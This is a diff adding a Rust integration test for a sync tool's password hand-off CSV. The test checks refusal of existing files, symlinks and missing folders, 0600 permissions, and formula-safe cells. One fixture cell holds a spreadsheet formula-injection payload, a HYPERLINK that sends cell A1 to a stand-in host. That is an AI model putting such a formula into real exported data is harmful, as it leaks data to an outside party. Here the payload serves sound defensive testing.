@@ -355,3 +355,113 @@ async fn preflight_holds_back_what_graph_would_refuse_and_sends_the_rest() {
     );
     assert_eq!(env.sim.users_with_upn_count("hiro@northwind-labs.io"), 0);
 }
+
+/// The hand-off file is a new file or nothing: an existing file, a symlink and a missing
+/// folder are refused before anything is sent (no write reaches the tenant, the existing file
+/// is untouched); a new one is 0600 and holds the header and one row per created account,
+/// every cell spreadsheet-safe (as in `users --csv`).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_handoff_file_that_is_not_new_is_refused_before_anything_is_sent() {
+    let env = common::start(SimOptions {
+        users: Some(3),
+        ..common::fast_options()
+    })
+    .await;
+    let dom = env.sim.default_domain.clone();
+    let csv = env.data.path().join("people.csv");
+    std::fs::write(
+        &csv,
+        // Cells a spreadsheet would run as formulas: a leading `-` in the address, `=` in
+        // the name.
+        format!(
+            "email,displayName\n-ann@{dom},\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"\n\
+             ben@{dom},Ben Ode\n"
+        ),
+    )
+    .unwrap();
+    let out = run(&env, &["directory", "import", csv.to_str().unwrap()]).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out = run(&env, &["bind", "--all"]).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out = run(&env, &["login"]).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+
+    let existing = env.data.path().join("earlier.csv");
+    std::fs::write(&existing, "earlier passwords\n").unwrap();
+    let link = env.data.path().join("link.csv");
+    std::os::unix::fs::symlink(env.data.path().join("elsewhere.csv"), &link).unwrap();
+    let missing = env.data.path().join("no-such-folder/new.csv");
+    let writes = env.sim.write_count();
+    for (path, says) in [
+        (&existing, "already exists: choose a new name"),
+        (&link, "is a symbolic link"),
+        (&missing, "does not exist"),
+    ] {
+        let out = run(
+            &env,
+            &["sync", "--apply", "--handoff", path.to_str().unwrap()],
+        )
+        .await;
+        assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+        assert!(text(&out.stderr).contains(says), "{}", text(&out.stderr));
+        assert_eq!(env.sim.write_count(), writes, "nothing sent for {path:?}");
+    }
+    assert_eq!(
+        std::fs::read_to_string(&existing).unwrap(),
+        "earlier passwords\n"
+    );
+    assert!(!env.data.path().join("elsewhere.csv").exists());
+
+    let new = env.data.path().join("new.csv");
+    let out = run(
+        &env,
+        &["sync", "--apply", "--handoff", new.to_str().unwrap()],
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&new).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    let h = std::fs::read_to_string(&new).unwrap();
+    let mut lines = h.lines();
+    assert_eq!(
+        lines.next(),
+        Some("email,userPrincipalName,temporaryPassword")
+    );
+    assert_eq!(lines.count(), 2, "{h}");
+    // Spreadsheet-safe: the address is quoted, the generated password left as it is.
+    let mut r = csv::Reader::from_path(&new).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    let ann = rows
+        .iter()
+        .find(|r| r[0].contains("-ann@"))
+        .expect("ann's row");
+    assert_eq!(&ann[0], format!("'-ann@{dom}"));
+    assert!(ann[1].starts_with("'-ann@"), "{ann:?}");
+    assert!(
+        rows.iter().all(|r| !r[2].starts_with('\'')),
+        "passwords unchanged"
+    );
+    let out = run(&env, &["users", "--csv"]).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let mut r = csv::Reader::from_reader(out.stdout.as_slice());
+    let ann = r
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[1].contains("-ann@"))
+        .expect("ann in users --csv");
+    assert!(ann[1].starts_with("'-ann@"), "{ann:?}");
+    assert_eq!(&ann[3], "'=HYPERLINK(\"http://x/?\"&A1)");
+
+    // A run that creates nothing leaves no hand-off file behind.
+    let none = env.data.path().join("none.csv");
+    let out = run(
+        &env,
+        &["sync", "--apply", "--handoff", none.to_str().unwrap()],
+    )
+    .await;
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(!none.exists());
+}
